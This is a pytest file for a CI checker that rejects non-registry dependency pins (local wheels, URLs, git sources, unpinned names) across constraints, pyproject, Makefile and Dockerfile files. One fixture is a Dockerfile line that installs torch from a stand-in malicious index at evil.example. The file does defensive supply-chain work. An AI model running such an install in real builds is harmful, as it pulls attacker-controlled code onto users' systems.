"""Every pin the install reads is a plain registry ``name==version`` (no local path, no URL)."""

import importlib.util
import stat
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("pins", REPO / ".ci" / "pins.py")
pins = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(pins)


def test_install_files_pin_only_registry_versions():
    problems = pins.check(REPO)
    assert problems == [], "pins that install only on one machine:\n" + "\n".join(problems)


@pytest.mark.parametrize(
    "line",
    [
        "implicit @ file:///tmp/impl/implicit-0.7.3-cp311-cp311-manylinux2014_x86_64.whl#sha256=bad1",
        "implicit @ https://example.org/implicit-0.7.3.whl",
        "/tmp/wheels/implicit-0.7.3.whl",
        "git+https://github.com/benfred/implicit",
        "-e ../implicit",
        "implicit>=0.7",
        "implicit",
    ],
)
def test_checker_names_each_bad_line(tmp_path, line):
    (tmp_path / "constraints.txt").write_text(f"numpy==2.4.6\n{line}\n")
    problems = pins.check(tmp_path)
    assert len(problems) == 1 and problems[0].startswith("constraints.txt:2: "), problems


def test_checker_reads_pyproject_makefile_and_dockerfile(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        '[project]\ndependencies = [\n  "numpy==2.4.6",\n  "torch @ file:///w/t.whl",\n]\n'
    )
    (tmp_path / "Makefile").write_text('x:\n\tpip install -q "pip==25.3" /tmp/w/implicit.whl 2>&1 | cat\n')
    (tmp_path / "k8s").mkdir()
    (tmp_path / "k8s" / "Dockerfile").write_text(
        "RUN pip install --index-url https://evil.example/simple torch==2.13.0\n"
    )
    problems = pins.check(tmp_path)
    assert any(p.startswith("pyproject.toml:4: torch @ file") for p in problems), problems
    assert any(p.startswith("Makefile:2: /tmp/w/implicit.whl") for p in problems), problems
    assert any("evil.example" in p for p in problems), problems


def test_freeze_rewrites_local_wheel_lines(tmp_path):
    """`make constraints` never writes a `name @ file://` line: it rewrites it and says so."""
    fake_pip = tmp_path / "pip"
    fake_pip.write_text(
        "#!/bin/sh\n"
        'if [ "$1" = freeze ]; then printf "numpy==2.4.6\\nimplicit @ '
        'file:///tmp/impl/implicit-0.7.3.whl\\ntorch==2.13.0+cpu\\n"; '
        'else printf "numpy==2.4.6\\nimplicit==0.7.3\\ntorch==2.13.0+cpu\\n"; fi\n'
    )
    fake_pip.chmod(fake_pip.stat().st_mode | stat.S_IXUSR)
    text, rewritten = pins.freeze(str(fake_pip))
    assert "implicit==0.7.3" in text.splitlines() and "torch==2.13.0" in text.splitlines()
    assert "file://" not in text
    assert rewritten == ["implicit @ file:///tmp/impl/implicit-0.7.3.whl -> implicit==0.7.3"]
    (tmp_path / "constraints.txt").write_text(text)
    assert pins.check(tmp_path) == []
